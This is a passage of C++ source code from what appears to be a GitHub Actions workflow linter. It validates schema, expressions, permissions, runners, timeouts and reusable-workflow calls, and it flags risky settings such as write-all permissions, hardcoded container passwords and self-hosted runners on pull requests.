  if (ref.size() < 7 || ref.size() >= 40) return false;
  for (char c : ref)
    if (!std::isxdigit(static_cast<unsigned char>(c)) ||
        std::isupper(static_cast<unsigned char>(c)))
      return false;
  return true;
}

std::optional<int> MajorVersion(std::string_view ref) {
  if (IsFullSha(ref) || ShortSha(ref)) return std::nullopt;
  if (!ref.empty() && (ref[0] == 'v' || ref[0] == 'V')) ref.remove_prefix(1);
  if (ref.empty() || !std::isdigit(static_cast<unsigned char>(ref[0]))) return std::nullopt;
  int v = 0;
  size_t i = 0;
  while (i < ref.size() && std::isdigit(static_cast<unsigned char>(ref[i])) && i < 6)
    v = v * 10 + (ref[i++] - '0');
  return v;
}

bool FirstParty(const UsesRef& u) {
  std::string o = Lower(u.owner);
  return o == "actions" || o == "github";
}

// A scalar that is a literal (not `${{ }}`), non-empty.
bool LiteralValue(const Node& n) {
  if (!IsScalar(n)) return false;
  const std::string& s = n.Scalar();
  return !Trim(s).empty() && s.find("${{") == std::string::npos;
}

// Rule, path and the normalized offending content (never the line): stable
// across edits elsewhere in the file.
std::string Fingerprint(std::string_view rule, std::string_view path, std::string_view content) {
  std::string key;
  key.reserve(rule.size() + path.size() + content.size() + 2);
  key += rule;
  key += '\n';
  key += path;
  key += '\n';
  key += content;
  return Sha256Hex(key).substr(0, 32);
}

// Does (lower-cased) text reference a secret other than GITHUB_TOKEN?
bool UsesSecrets(std::string_view low) {
  for (size_t p = low.find("secrets."); p != std::string_view::npos;
       p = low.find("secrets.", p + 1))
    if (low.compare(p, 20, "secrets.github_token") != 0) return true;
  return false;
}

std::string Clip(std::string_view s, size_t n = 120) {
  std::string out;
  for (char c : s) {
    if (out.size() >= n) {
      out += "…";
      break;
    }
    out += (c == '\n' || c == '\r' || c == '\t') ? ' ' : c;
  }
  return Trim(out);
}

// ---- the per-file analyzer -------------------------------------------------------------------

struct ExprScope {
  uint32_t allowed = kCtxAll;
  std::string where;
  std::string job;
  const std::set<std::string>* needs = nullptr;  // lower-case job ids; null = unchecked
  const std::set<std::string>* steps = nullptr;  // lower-case step ids defined so far
  const std::set<std::string>* inputs = nullptr;
};

struct StepFacts {
  bool scanner = false;
  std::string scanner_name;
  ScannerKind scanner_kind = ScannerKind::kScan;
  bool gating = true;
};

class Analyzer {
 public:
  Analyzer(const SourceFile& f, const RepoIndex& idx, std::vector<Finding>* out, CiSprawl* sprawl)
      : f_(f), idx_(idx), out_(out), sp_(sprawl) {}

  void Run() {
    if (f_.syntax_error) {
      Emit("ci-yaml-syntax", f_.error_pos, "YAML syntax error: " + f_.error, f_.error, {}, {});
      return;
    }
    if (!f_.ok) return;
    CheckDuplicateKeys(f_.root, 0);
    switch (f_.kind) {
      case FileKind::kWorkflow:
        Workflow();
        break;
      case FileKind::kAction:
        Action();
        break;
      case FileKind::kDependabot:
        Dependabot();
        break;
      default:
        break;
    }
  }

 private:
  const std::string& JobText(const std::string& id) const {
    static const std::string kEmpty;
    auto it = job_text_.find(id);
    return it == job_text_.end() ? kEmpty : it->second;
  }

  // ---- emitting ----
  void Emit(std::string_view rule, Pos pos, std::string message, std::string_view norm,
            std::optional<Severity> severity, std::optional<Confidence> confidence,
            std::string job = "") {
    const RuleInfo* info = FindCiRule(rule);
    if (!info) return;
    Finding fd;
    fd.rule_id = info->id;
    fd.title = info->title;
    fd.area = info->area;
    fd.severity = severity.value_or(info->severity);
    fd.confidence = confidence.value_or(CiRuleConfidence(rule));
    fd.message = std::move(message);
    fd.location.path = f_.path;
    fd.location.line = pos.line;
    fd.location.column = pos.column;
    if (pos.line > 0) {
      fd.location.end_line = pos.line;
      fd.location.end_column = TokenEndColumn(f_, pos);
      fd.evidence = Clip(f_.Line(pos.line), 160);
    }
    fd.remediation = info->remediation;
    fd.help_uri = info->help_uri;
    std::string content(norm);
    if (!job.empty()) {
      fd.properties["job"] = job;
      content = job + "\n" + content;
    }
    fd.fingerprint = Fingerprint(info->id, f_.path, content);
    out_->push_back(std::move(fd));
  }
  void EmitAt(std::string_view rule, const Node& n, std::string message, std::string_view norm,
              std::optional<Severity> sev = {}, std::optional<Confidence> conf = {},
              std::string job = "") {
    Emit(rule, NodePos(n), std::move(message), norm, sev, conf, std::move(job));
  }
  Pos RootPos() const {
    if (IsMap(f_.root) && f_.root.size() > 0) return NodePos((*f_.root.begin()).first);
    return {1, 1};
  }

  // ---- generic checks ----
  void CheckDuplicateKeys(const Node& n, int depth) {
    if (depth > 200) return;
    if (n.IsMap()) {
      // Maps are small: a linear scan beats building a set per map.
      std::vector<const std::string*> seen;
      for (const auto& it : n) {
        if (it.first.IsScalar()) {
          const std::string& k = it.first.Scalar();
          bool dup = false;
          for (const std::string* s : seen) dup = dup || *s == k;
          seen.push_back(&k);
          if (dup)
            EmitAt("ci-duplicate-id", it.first,
                   "duplicate key '" + k + "' (GitHub rejects repeated keys; only one is used)",
                   "key\n" + k + "\n" + std::to_string(NodePos(it.first).line));
        }
        CheckDuplicateKeys(it.second, depth + 1);
      }
    } else if (n.IsSequence()) {
      for (const auto& e : n) CheckDuplicateKeys(e, depth + 1);
    }
  }

  void UnknownKeys(const Node& map, std::span<const std::string_view> keys, std::string_view what,
                   const std::string& job = "") {
    if (!IsMap(map)) return;
    for (const auto& it : map) {
      std::string k = Str(it.first);
      if (KeyIn(k, keys)) continue;
      std::string hint;
      if (k == "timeout") hint = " (did you mean 'timeout-minutes'?)";
      if (k == "runs_on" || k == "runson") hint = " (did you mean 'runs-on'?)";
      if (k == "need" || k == "depends-on" || k == "depends_on") hint = " (did you mean 'needs'?)";
      if (k == "step") hint = " (did you mean 'steps'?)";
      if (k == "job") hint = " (did you mean 'jobs'?)";
      if (k == "environments") hint = " (did you mean 'environment'?)";
      if (k == "continue_on_error") hint = " (did you mean 'continue-on-error'?)";
      if (k == "working_directory") hint = " (did you mean 'working-directory'?)";
      EmitAt("ci-schema-invalid", it.first,
             "unknown key '" + k + "' in " + std::string(what) + hint, "unknown-key\n" + k, {}, {},
             job);
    }
  }

  // Expressions in every scalar under `n`.
  void CheckExprs(const Node& n, const ExprScope& scope, int depth = 0) {
    if (!n.IsDefined() || depth > 100) return;
    if (n.IsScalar()) {
      CheckTemplate(n, scope);
    } else if (n.IsMap()) {
      for (const auto& it : n) CheckExprs(it.second, scope, depth + 1);
    } else if (n.IsSequence()) {
      for (const auto& e : n) CheckExprs(e, scope, depth + 1);
    }
  }

  void CheckTemplate(const Node& n, const ExprScope& scope) {
    const std::string& s = n.Scalar();
    if (s.find("${{") == std::string::npos) {
      // A stray "}}" without an opener is not an expression; leave it.
      return;
    }
    for (const ExprSpan& span : FindExpressions(s)) {
      if (!span.closed) {
        Emit("ci-expression-syntax", ScalarOffsetPos(f_, n, s, span.begin, "${{"),
             "'${{' is never closed with '}}'", "unclosed\n" + s, {}, {}, scope.job);
        continue;
      }
      CheckExpression(n, s, span.inner_begin,
                      s.substr(span.inner_begin, span.inner_end - span.inner_begin), scope);
    }
  }

  // `text` is the expression source found at `offset` of the scalar value.
  std::optional<ExprTree> CheckExpression(const Node& n, std::string_view value, size_t offset,
                                          std::string_view text, const ExprScope& scope) {
    auto tree = ParseExpression(text);
    auto pos_at = [&](size_t off) {
      // Locate by the text from `off` to the end of the expression.
      std::string_view needle = value.substr(
          offset + off, std::min<size_t>(24, text.size() - std::min(text.size(), off)));
      if (needle.empty()) needle = value.substr(offset, std::min<size_t>(24, text.size()));
      return ScalarOffsetPos(f_, n, value, offset + off, needle);
    };
    if (!tree.ok()) {
      size_t col = static_cast<size_t>(std::max(1, tree.error().column) - 1);
      Emit("ci-expression-syntax", pos_at(std::min(col, text.size())),
           "invalid expression '" + Clip(text, 80) + "': " + tree.error().message,
           "parse\n" + std::string(text), {}, {}, scope.job);
      return std::nullopt;
    }
    for (const ExprProblem& p : ValidateExpression(*tree)) {
      bool context = p.message.rfind("unknown context", 0) == 0;
      Emit(context ? "ci-expression-context" : "ci-expression-syntax", pos_at(p.offset),
           p.message + " in '" + Clip(text, 80) + "'", "validate\n" + std::string(text), {}, {},
           scope.job);
    }
    for (const ContextRef& r : ContextRefs(*tree)) {
      if (r.path.empty()) continue;
      const std::string& root = r.path[0];
      uint32_t bit = ContextBit(root);
      if (bit == 0) continue;  // unknown: reported above
      std::string problem;
      if (!(scope.allowed & bit)) {
        problem = "context '" + root + "' is not available in " + scope.where;
      } else if (r.path.size() >= 2 && r.path[1] != "*") {
        const std::string& name = r.path[1];
        if (root == "needs" && scope.needs && !scope.needs->count(name))
          problem = "needs." + name + " refers to a job that is not listed in this job's needs:";
        else if (root == "steps" && scope.steps && !scope.steps->count(name))
          problem = "steps." + name + " refers to a step id not defined before this point";
        else if (root == "inputs" && scope.inputs && !scope.inputs->count(name))
          problem = "inputs." + name + " is not declared (workflow_dispatch/workflow_call inputs)";
      }
      if (!problem.empty())
        Emit("ci-expression-context", pos_at(r.begin), problem,
             "ctx\n" + JoinPath(r.path) + "\n" + scope.where, {}, {}, scope.job);
    }
    return std::move(tree).value();
  }

  // `if:` values: an expression with or without ${{ }}.
  std::optional<ExprTree> CheckCondition(const Node& n, const ExprScope& scope,
                                         const std::string& job) {
    if (!IsScalar(n)) return std::nullopt;
    const std::string& s = n.Scalar();
    if (s.find("${{") == std::string::npos) {
      if (Trim(s).empty()) return std::nullopt;
      size_t lead = s.find_first_not_of(" \t\n");
      return CheckExpression(n, s, lead, std::string_view(s).substr(lead), scope);
    }
    std::vector<ExprSpan> spans = FindExpressions(s);
    std::string t = Trim(s);
    bool whole = spans.size() == 1 && spans[0].closed &&
                 t.size() == spans[0].end - spans[0].begin && StartsWith(t, "${{");
    if (!whole && !spans.empty() && spans[0].closed) {
      EmitAt("ci-condition-always-true", n,
             "the condition '" + Clip(s, 80) +
                 "' mixes ${{ }} with other text, so it is a non-empty string and always true",
             "always\n" + s, {}, {}, job);
      CheckTemplate(n, scope);
      return std::nullopt;
    }
    std::optional<ExprTree> tree;
    for (const ExprSpan& span : spans) {
      if (!span.closed) {
        CheckTemplate(n, scope);
        return std::nullopt;
      }
      tree = CheckExpression(
          n, s, span.inner_begin,
          std::string_view(s).substr(span.inner_begin, span.inner_end - span.inner_begin), scope);
    }
    return tree;
  }

  // ---- workflow ----
  void Workflow() {
    const Node& root = f_.root;
    sp_->workflows++;
    sp_->lines += f_.line_starts.size();
    UnknownKeys(root, kWorkflowKeys, "the workflow");
    KeyValue on = Get(root, "on");
    KeyValue jobs = Get(root, "jobs");
    if (!on)
      Emit("ci-schema-invalid", RootPos(), "the workflow has no 'on:' trigger", "no-on", {}, {});
    if (!jobs || !IsMap(jobs.value) || jobs.value.size() == 0) {
      Emit("ci-schema-invalid", jobs ? NodePos(jobs.key) : RootPos(),
           "the workflow has no jobs ('jobs:' must be a mapping of job ids)", "no-jobs", {}, {});
    }
    Triggers(on);
    if (events_.count("workflow_call")) sp_->reusable_workflows++;
    for (const auto& e : events_) sp_->workflows_per_event[e]++;
    pr_ = events_.count("pull_request") || events_.count("pull_request_target");
    for (const auto& e : events_)
      if (PrivilegedEvent(e)) privileged_ = true;
    if (pr_) sp_->pr_workflows++;
    if (pr_ && every_pr_) sp_->every_pr_workflows++;

    ExprScope wf;
    wf.inputs = &inputs_;
    wf.allowed = kCtxGithub | kCtxInputs | kCtxVars;
    wf.where = "run-name";
    CheckExprs(Val(root, "run-name"), wf);
    wf.where = "the workflow's concurrency";
    CheckExprs(Val(root, "concurrency"), wf);
    wf.allowed |= kCtxSecrets;
    wf.where = "the workflow's env";
    Node wenv = Val(root, "env");
    CheckExprs(wenv, wf);
    CheckEnvMap(wenv, "");
    wf.allowed = kCtxGithub | kCtxInputs | kCtxVars | kCtxEnv;
    wf.where = "the workflow's defaults";
    CheckExprs(Val(root, "defaults"), wf);

    top_perms_ = Get(root, "permissions");
    if (top_perms_) CheckPermissionsBlock(top_perms_, "");
    top_concurrency_ = Val(root, "concurrency");

    if (IsMap(jobs.value)) {
      // Source text of each job: from its key to the next job's key (or the
      // next top-level key after jobs:).
      size_t jobs_end = f_.text.size();
      bool after = false;
      for (const auto& it : root) {
        if (after && it.first.Mark().pos > jobs.key.Mark().pos) {
          jobs_end = static_cast<size_t>(it.first.Mark().pos);
          break;
        }
        if (Str(it.first) == "jobs") after = true;
      }
      std::vector<std::pair<std::string, size_t>> starts;
      for (const auto& it : jobs.value) {
        job_ids_.insert(Str(it.first));
        starts.push_back({Str(it.first), static_cast<size_t>(std::max(0, it.first.Mark().pos))});
      }
      for (size_t i = 0; i < starts.size(); ++i) {
        size_t b = std::min(starts[i].second, f_.text.size());
        size_t e = i + 1 < starts.size() ? starts[i + 1].second : jobs_end;
        if (e < b) e = f_.text.size();
        job_text_.emplace(starts[i].first, Lower(std::string_view(f_.text).substr(b, e - b)));
      }
      for (const auto& it : jobs.value) Job(it.first, it.second);
      NeedsGraph(jobs.value);
    }
    Permissions(jobs.value);
    Concurrency(jobs.value);
    if (!top_perms_) sp_->workflows_without_permissions++;
  }

  void Triggers(const KeyValue& on) {
    if (!on) return;
    const Node& v = on.value;
    auto add = [&](const Node& name_node, const Node& cfg) {
      std::string e = Str(name_node);
      if (e.empty()) return;
      if (!KnownEvent(e)) {
        EmitAt("ci-schema-invalid", name_node, "unknown event '" + e + "'", "event\n" + e);
        return;
      }
      events_.insert(e);
      event_nodes_[e] = name_node;
      if (e == "pull_request" || e == "pull_request_target") {
        // Branch filters name the base branch (nearly every PR targets it);
        // only path filters make a workflow skip pull requests.
        bool filtered = IsMap(cfg) && (Get(cfg, "paths") || Get(cfg, "paths-ignore"));
        if (!filtered) every_pr_ = true;
      }
      if (e == "schedule") Schedule(cfg);
      if ((e == "workflow_dispatch" || e == "workflow_call") && IsMap(cfg)) {
        Node ins = Val(cfg, "inputs");
        if (IsMap(ins))
          for (const auto& it : ins) inputs_.insert(Lower(Str(it.first)));
      }
      if (e == "workflow_call" && IsMap(cfg)) {
        ExprScope s;
        s.allowed = kCtxGithub | kCtxInputs | kCtxVars | kCtxJobs;
        s.where = "workflow_call outputs";
        s.inputs = &inputs_;
        CheckExprs(Val(cfg, "outputs"), s);
      }
    };
    if (IsScalar(v)) {
      add(v, Node());
    } else if (IsSeq(v)) {
      for (const auto& e : v) add(e, Node());
    } else if (IsMap(v)) {
      for (const auto& it : v) add(it.first, it.second);
    } else {
      EmitAt("ci-schema-invalid", on.key, "'on:' must name events", "on-shape");
    }
  }

  void Schedule(const Node& cfg) {
    if (!IsSeq(cfg)) {
      if (cfg.IsDefined() && !cfg.IsNull())
        EmitAt("ci-schema-invalid", cfg, "'schedule:' must be a list of '- cron: ...' entries",
               "schedule-shape");
      return;
    }
    for (const auto& entry : cfg) {
      KeyValue cron = Get(entry, "cron");
      if (!cron) {
        EmitAt("ci-schema-invalid", entry, "schedule entry without 'cron:'", "schedule-entry");
        continue;
      }
      std::string problem = CronProblem(Str(cron.value));
      if (!problem.empty())
        EmitAt("ci-cron-invalid", cron.value, "invalid cron '" + Str(cron.value) + "': " + problem,
               Str(cron.value));
    }
  }

  void CheckEnvMap(const Node& env, const std::string& job) {
    if (!IsMap(env)) return;
    for (const auto& it : env) {
      if (Str(it.first) == "ACTIONS_ALLOW_UNSECURE_COMMANDS" && IsTrue(it.second))
        EmitAt("ci-unsecure-commands-enabled", it.first,
               "ACTIONS_ALLOW_UNSECURE_COMMANDS re-enables ::set-env and ::add-path", "unsecure",
               {}, {}, job);
    }
  }

  // A permissions value: "read-all", "write-all", {} or scope: level.
  void CheckPermissionsBlock(const KeyValue& p, const std::string& job) {
    const Node& v = p.value;
    if (IsScalar(v)) {
      std::string s = v.Scalar();
      if (s == "write-all") {
        EmitAt("ci-permissions-write-all", v,
               std::string("permissions: write-all grants every scope to ") +
                   (job.empty() ? "all jobs" : "job '" + job + "'"),
               "write-all", {}, {}, job);
      } else if (s != "read-all" && !Trim(s).empty()) {
        EmitAt("ci-schema-invalid", v, "permissions must be read-all, write-all or a mapping",
               "perm-value\n" + s, {}, {}, job);
      }
      return;
    }
    if (!IsMap(v)) return;
    for (const auto& it : v) {
      std::string scope = Str(it.first), level = Str(it.second);
      if (!ScopeBit(scope)) {
        EmitAt("ci-schema-invalid", it.first, "unknown permission scope '" + scope + "'",
               "scope\n" + scope, {}, {}, job);
        continue;
      }
      bool ok = level == "read" || level == "write" || level == "none";
      if ((scope == "id-token" && level == "read") || (scope == "models" && level == "write"))
        ok = false;
      if (!ok)
        EmitAt("ci-schema-invalid", it.second,
               "invalid level '" + level + "' for permission '" + scope + "'",
               "level\n" + scope + "\n" + level, {}, {}, job);
    }
  }

  // Scopes a permissions value grants write on (~0 for write-all); nullopt = absent.
  static std::optional<uint32_t> WriteScopes(const KeyValue& p) {
    if (!p) return std::nullopt;
    if (IsScalar(p.value)) return p.value.Scalar() == "write-all" ? ~0u : 0u;
    uint32_t w = 0;
    if (IsMap(p.value))
      for (const auto& it : p.value)
        if (Str(it.second) == "write") w |= ScopeBit(Str(it.first));
    return w;
  }

  // ---- jobs ----
  struct JobInfo {
    std::string id;
    Node key, node;
    KeyValue perms;
    Needs needs;
    bool call = false;
    bool uses_secrets = false;
    bool has_concurrency_cancel = false;
  };

  void Job(const Node& key, const Node& job) {
    const std::string id = Str(key);
    JobInfo info;
    info.id = id;
    info.key = key;
    info.node = job;
    sp_->jobs++;
    if (!IsMap(job)) {
      EmitAt("ci-schema-invalid", key, "job '" + id + "' must be a mapping", "job-shape", {}, {},
             id);
      jobs_.push_back(std::move(info));
      return;
    }
    bool valid_id =
        !id.empty() && (std::isalpha(static_cast<unsigned char>(id[0])) || id[0] == '_');
    for (char c : id)
      valid_id = valid_id && (std::isalnum(static_cast<unsigned char>(c)) || c == '_' || c == '-');
    if (!valid_id)
      EmitAt("ci-schema-invalid", key,
             "job id '" + id +
                 "' must start with a letter or '_' and contain only letters, "
                 "digits, '-' and '_'",
             "job-id", {}, {}, id);

    // needs of this job, for expression checks.
    std::set<std::string> needs;
    Node needs_node = Val(job, "needs");
    if (IsScalar(needs_node)) needs.insert(Lower(needs_node.Scalar()));
    if (IsSeq(needs_node))
      for (const auto& n : needs_node) needs.insert(Lower(Str(n)));

    info.perms = Get(job, "permissions");
    if (info.perms) CheckPermissionsBlock(info.perms, id);
    info.uses_secrets = UsesSecrets(JobText(id));
    Node conc = Val(job, "concurrency");
    info.has_concurrency_cancel = IsMap(conc) && Get(conc, "cancel-in-progress") &&
                                  Str(Val(conc, "cancel-in-progress")) != "false";

    ExprScope s;
    s.job = id;
    s.needs = &needs;
    s.inputs = &inputs_;
    s.allowed = kCtxGithub | kCtxNeeds | kCtxVars | kCtxInputs;
    s.where = "a job's if:";
    KeyValue jif = Get(job, "if");
    std::optional<ExprTree> if_tree;
    if (jif) {
      if_tree = CheckCondition(jif.value, s, id);
      if (if_tree) BotCondition(*if_tree, jif.value, id);
    }

    KeyValue uses = Get(job, "uses");
    if (uses) {
      info.call = true;
      sp_->reusable_calls++;
      UnknownKeys(job, kCallJobKeys, "a job that calls a reusable workflow", id);
      s.allowed = kCtxGithub | kCtxNeeds | kCtxStrategy | kCtxMatrix | kCtxInputs | kCtxVars;
      s.where = "a reusable-workflow call's with:";
      CheckExprs(Val(job, "with"), s);
      s.allowed |= kCtxSecrets;
      s.where = "a reusable-workflow call's secrets:";
      CheckExprs(Val(job, "secrets"), s);
      s.allowed = kCtxGithub | kCtxNeeds | kCtxVars | kCtxInputs;
      s.where = "strategy";
      CheckExprs(Val(job, "strategy"), s);
      ReusableCall(id, uses, job);
      info.needs.unknown = true;
      jobs_.push_back(std::move(info));
      return;
    }

    UnknownKeys(job, kJobKeys, "job '" + id + "'", id);
    KeyValue runs_on = Get(job, "runs-on");
    if (!runs_on)
      EmitAt("ci-schema-invalid", key, "job '" + id + "' has no 'runs-on:'", "no-runs-on", {}, {},
             id);
    KeyValue steps = Get(job, "steps");
    if (!steps || !IsSeq(steps.value) || steps.value.size() == 0)
      EmitAt("ci-schema-invalid", steps ? steps.key : key, "job '" + id + "' has no steps",
             "no-steps", {}, {}, id);

    // Contexts per job key (GitHub's context availability table).
    s.allowed = kCtxGithub | kCtxNeeds | kCtxStrategy | kCtxMatrix | kCtxVars | kCtxInputs;
    s.where = "runs-on";
    CheckExprs(runs_on.value, s);
    s.where = "environment";
    CheckExprs(Val(job, "environment"), s);
    s.where = "a job's concurrency";
    CheckExprs(conc, s);
    s.where = "a job's name";
    CheckExprs(Val(job, "name"), s);
    s.where = "timeout-minutes";
    CheckExprs(Val(job, "timeout-minutes"), s);
    s.where = "continue-on-error";
    CheckExprs(Val(job, "continue-on-error"), s);
    s.allowed = kCtxGithub | kCtxNeeds | kCtxVars | kCtxInputs;
    s.where = "strategy";
    CheckExprs(Val(job, "strategy"), s);
    s.allowed =
        kCtxGithub | kCtxNeeds | kCtxStrategy | kCtxMatrix | kCtxVars | kCtxSecrets | kCtxInputs;
    s.where = "a job's env";
    Node env = Val(job, "env");
    CheckExprs(env, s);
    CheckEnvMap(env, id);
    s.allowed |= kCtxEnv;
    s.where = "container/services";
    CheckExprs(Val(job, "container"), s);
    CheckExprs(Val(job, "services"), s);
    s.allowed =
        kCtxGithub | kCtxNeeds | kCtxStrategy | kCtxMatrix | kCtxEnv | kCtxVars | kCtxInputs;
    s.where = "a job's defaults";
    CheckExprs(Val(job, "defaults"), s);

    Credentials(Val(job, "container"), "container", id);
    Node services = Val(job, "services");
    if (IsMap(services))
      for (const auto& it : services) Credentials(it.second, "services." + Str(it.first), id);

    // Timeout and sprawl.
    KeyValue timeout = Get(job, "timeout-minutes");
    if (!timeout) {
      sp_->jobs_without_timeout++;
      EmitAt("ci-job-timeout-missing", key,
             "job '" + id + "' has no timeout-minutes (GitHub's default is 360 minutes)", "timeout",
             {}, {}, id);
    }
    const uint64_t runs = MatrixSize(Val(job, "strategy"));
    if (pr_) {
      sp_->pr_jobs++;
      sp_->pr_job_runs += runs;
      if (timeout && IsScalar(timeout.value)) {
        char* end = nullptr;
        double t = std::strtod(timeout.value.Scalar().c_str(), &end);
        if (end && *end == '\0' && t > 0) {
          sp_->pr_job_runs_with_timeout += runs;
          sp_->pr_runner_minutes_max += t * static_cast<double>(runs);
        }
      }
    }
    RunsOn(runs_on, job, id);

    // Steps.
    std::set<std::string> step_ids;
    bool job_coe = IsTrue(Val(job, "continue-on-error"));
    Needs job_needs;
    if (IsSeq(steps.value)) {
      size_t idx = 0;
      for (const auto& st : steps.value) {
        StepFacts sf;
        Step(st, idx++, id, job, &step_ids, &needs, job_coe, false, &job_needs, &sf);
        RecordScanner(sf);
      }
    }
    // Job outputs may reference every step.
    s.allowed = kCtxAll & ~kCtxJobs;
    s.steps = &step_ids;
    s.where = "job outputs";
    CheckExprs(Val(job, "outputs"), s);
    info.needs = job_needs;
    jobs_.push_back(std::move(info));
  }

  static uint64_t MatrixSize(const Node& strategy) {
    Node m = Val(strategy, "matrix");
    if (!IsMap(m)) return 1;
    uint64_t product = 0;
    bool any = false;
    size_t include = 0, exclude = 0;
    for (const auto& it : m) {
      std::string k = Str(it.first);
      if (k == "include") {
        include = IsSeq(it.second) ? it.second.size() : 0;
        continue;
      }
      if (k == "exclude") {
        exclude = IsSeq(it.second) ? it.second.size() : 0;
        continue;
      }
      uint64_t n = IsSeq(it.second) ? it.second.size() : 1;
      product = any ? product * n : n;
      any = true;
    }
    if (!any) return std::max<uint64_t>(1, include);
    uint64_t size = product > exclude ? product - exclude : 1;
    return std::max<uint64_t>(1, size);
  }

  void RunsOn(const KeyValue& runs_on, const Node& job, const std::string& id) {
    if (!runs_on) return;
    std::vector<Node> labels;
    const Node& v = runs_on.value;
    if (IsScalar(v)) labels.push_back(v);
    if (IsSeq(v))
      for (const auto& l : v) labels.push_back(l);
    if (IsMap(v)) {
      Node ls = Val(v, "labels");
      if (IsScalar(ls)) labels.push_back(ls);
      if (IsSeq(ls))
        for (const auto& l : ls) labels.push_back(l);
    }
    // runs-on: ${{ matrix.os }}: the matrix values are the labels.
    std::vector<Node> matrix_labels;
    for (const auto& l : labels) {
      std::string s = Str(l);
      size_t m = s.find("matrix.");
      if (s.find("${{") == std::string::npos || m == std::string::npos) continue;
      size_t e = m + 7;
      while (e < s.size() &&
             (std::isalnum(static_cast<unsigned char>(s[e])) || s[e] == '_' || s[e] == '-'))
        ++e;
      std::string key = s.substr(m + 7, e - m - 7);
      Node matrix = Val(Val(job, "strategy"), "matrix");
      Node vals = Val(matrix, key);
      if (IsSeq(vals))
        for (const auto& x : vals) {
          if (IsScalar(x)) matrix_labels.push_back(x);
          if (IsSeq(x))
            for (const auto& y : x) matrix_labels.push_back(y);
        }
      Node include = Val(matrix, "include");
      if (IsSeq(include))
        for (const auto& inc : include) {
          Node x = Val(inc, key);
          if (IsScalar(x)) matrix_labels.push_back(x);
        }
    }
    bool self_hosted_reported = false;
    auto check = [&](const Node& l) {
      std::string s = Lower(Str(l));
      if (s == "self-hosted" && pr_ && !self_hosted_reported) {
        self_hosted_reported = true;
        std::string trig =
            events_.count("pull_request_target") ? "pull_request_target" : "pull_request";
        EmitAt("ci-self-hosted-pr", l,
               "job '" + id + "' runs on a self-hosted runner and the workflow runs on " + trig +
                   ": in a public repository, anyone's PR code runs on your machine",
               "self-hosted", {}, {}, id);
      }
      for (const RunnerStatus& r : kRunners) {
        if (s != r.label) continue;
        EmitAt("ci-runner-retired", l,
               "runner label '" + std::string(r.label) + "' " +
                   (r.retired ? "is retired: the job never gets a runner"
                              : "is deprecated and being retired"),
               std::string(r.label), r.retired ? Severity::kHigh : Severity::kMedium, {}, id);
      }
    };
    for (const auto& l : labels) check(l);
    for (const auto& l : matrix_labels) check(l);
  }

  void Credentials(const Node& holder, const std::string& where, const std::string& job) {
    Node creds = Val(holder, "credentials");
    if (!IsMap(creds)) return;
    KeyValue pw = Get(creds, "password");
    if (pw && LiteralValue(pw.value)) {
      hardcoded_lines_.insert(NodePos(pw.value).line);
      EmitAt("ci-hardcoded-credential", pw.value,
             where + ".credentials.password is a literal value, not a secret reference",
             "password\n" + where + "\n" + Sha256Hex(Str(pw.value)), Severity::kHigh,
             Confidence::kHigh, job);
    }
  }

  void ReusableCall(const std::string& id, const KeyValue& uses, const Node& job) {
    std::string u = Str(uses.value);
    UsesRef ref = ParseUses(u);
    if (ref.kind == UsesRef::kInvalid || ref.kind == UsesRef::kDocker ||
        (ref.kind == UsesRef::kRemote &&
         ref.path.find(".github/workflows/") == std::string::npos)) {
      EmitAt("ci-uses-invalid", uses.value,
             "'" + u +
                 "' is not a reusable workflow reference (owner/repo/.github/workflows/"
                 "file.yml@ref or ./.github/workflows/file.yml)",
             u, {}, {}, id);
      return;
    }
    KeyValue secrets = Get(job, "secrets");
    if (secrets && Str(secrets.value) == "inherit")
      EmitAt("ci-secrets-inherit", secrets.value,
             "job '" + id + "' passes every secret to " + u + " (secrets: inherit)", u, {}, {}, id);
    if (ref.kind == UsesRef::kRemote) {
      Pinning(uses.value, ref, u, id);
      return;
    }
    // Local: check against the callee's declaration.
    auto it = idx_.callables.find(ref.local);
    if (it == idx_.callables.end() || it->second.is_action) {
      if (idx_.has_workflows_dir)
        EmitAt("ci-uses-invalid", uses.value, "reusable workflow '" + u + "' does not exist", u, {},
               {}, id);
      return;
    }
    const CallableDecl& d = it->second;
    if (!d.callable) {
      EmitAt("ci-uses-invalid", uses.value,
             "'" + u + "' is not a reusable workflow: it has no 'on: workflow_call' trigger", u, {},
             {}, id);
      return;
    }
    CheckInputs(Get(job, "with"), d, u, id, uses.key);
    bool inherit = secrets && Str(secrets.value) == "inherit";
    if (secrets && IsMap(secrets.value)) {
      for (const auto& s : secrets.value) {
        std::string name = Str(s.first);
        if (!d.secrets.count(name) && name != "GITHUB_TOKEN")
          EmitAt("ci-reusable-unknown-input", s.first,
                 "secret '" + name + "' is not declared by " + u + " (on.workflow_call.secrets)",
                 "secret\n" + u + "\n" + name, {}, {}, id);
      }
    }
    if (!inherit) {
      for (const auto& [name, required] : d.secrets) {
        if (!required) continue;
        if (secrets && IsMap(secrets.value) && Get(secrets.value, name)) continue;
        EmitAt("ci-reusable-missing-input", uses.key,
               "required secret '" + name + "' of " + u + " is not passed",
               "secret\n" + u + "\n" + name, {}, {}, id);
      }
    }
  }

  void CheckInputs(const KeyValue& with, const CallableDecl& d, const std::string& u,
                   const std::string& job, const Node& anchor) {
    std::string kind = d.is_action ? "action" : "reusable workflow";
    if (with && IsMap(with.value)) {
      for (const auto& w : with.value) {
        std::string name = Str(w.first);
        bool known = d.inputs.count(name) > 0;
        if (!known)
          for (const auto& [k, v] : d.inputs) known = known || Lower(k) == Lower(name);
        if (!known) {
          std::string declared;
          for (const auto& [k, v] : d.inputs) declared += (declared.empty() ? "" : ", ") + k;
          EmitAt(
              "ci-reusable-unknown-input", w.first,
              "input '" + name + "' is not declared by " + kind + " " + u +
                  (declared.empty() ? " (it declares no inputs)" : " (declared: " + declared + ")"),
              "input\n" + u + "\n" + name, {}, {}, job);
        }
      }
    }
    for (const auto& [name, decl] : d.inputs) {
      if (!decl.required || decl.has_default) continue;
      bool given = false;
      if (with && IsMap(with.value))
        for (const auto& w : with.value) given = given || Lower(Str(w.first)) == Lower(name);
      if (!given)
        EmitAt("ci-reusable-missing-input", anchor,
               "required input '" + name + "' of " + kind + " " + u + " is not passed",
               "input\n" + u + "\n" + name, {}, {}, job);
    }
  }

  void Pinning(const Node& node, const UsesRef& ref, const std::string& u, const std::string& job) {
    if (ref.kind == UsesRef::kDocker) {
      sp_->action_refs++;
      sp_->third_party_refs++;
      if (ref.image.find("@sha256:") != std::string::npos) {
        sp_->pinned_action_refs++;
        sp_->third_party_pinned++;
        return;
      }
      EmitAt("ci-action-unpinned", node,
